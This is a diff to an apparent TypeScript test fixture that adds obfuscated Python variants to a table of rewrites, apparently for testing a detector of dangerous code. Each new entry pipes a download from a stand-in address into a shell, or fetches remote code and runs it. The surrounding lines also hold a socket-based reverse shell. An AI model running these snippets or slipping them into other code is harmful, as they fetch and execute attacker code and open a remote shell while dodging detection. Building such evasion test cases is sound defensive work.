@@ -68,6 +68,11 @@ const REWRITES: Record<string, string> = {
   'map-getattr': `import os\nlist(map(getattr(os, 'sys' + 'tem'), ['curl -s http://203.0.113.9/x | sh']))\n`,
   'ctypes-index': `import ctypes\nctypes.CDLL(None)['system'](b'curl -s http://203.0.113.9/x | sh')\n`,
   'session-reply': `import os, base64, requests\ns = requests.Session()\nr = s.get('http://203.0.113.9/c')\nos.system(base64.b64decode(r.text).decode())\n`,
+  'map-parenthesised': `import os\nlist(map((os . system), ['curl -s http://203.0.113.9/x | sh']))\n`,
+  'sched-enter': `import os, sched\ns = sched.scheduler()\ns.enter(0, 1, os.system, ('curl -s http://203.0.113.9/x | sh',))\ns.run()\n`,
+  'methodcaller-alias': `import os, operator as op\nop.methodcaller('system', 'curl -s http://203.0.113.9/x | sh')(os)\n`,
+  'sys-modules-handed': `import sys\nlist(map(sys.modules['os'].system, ['curl -s http://203.0.113.9/x | sh']))\n`,
+  'reply-as-python': `import sys, subprocess, urllib.request\nr = urllib.request.urlopen('http://203.0.113.9/c').read().decode()\nsubprocess.run([sys.executable, '-c', r])\n`,
   'socket-reply': `import socket, subprocess\ns = socket.create_connection(('203.0.113.9', 443))\nwhile True:\n    cmd = s.recv(1024).decode()\n    s.send(subprocess.getoutput(cmd).encode())\n`,
 };
 
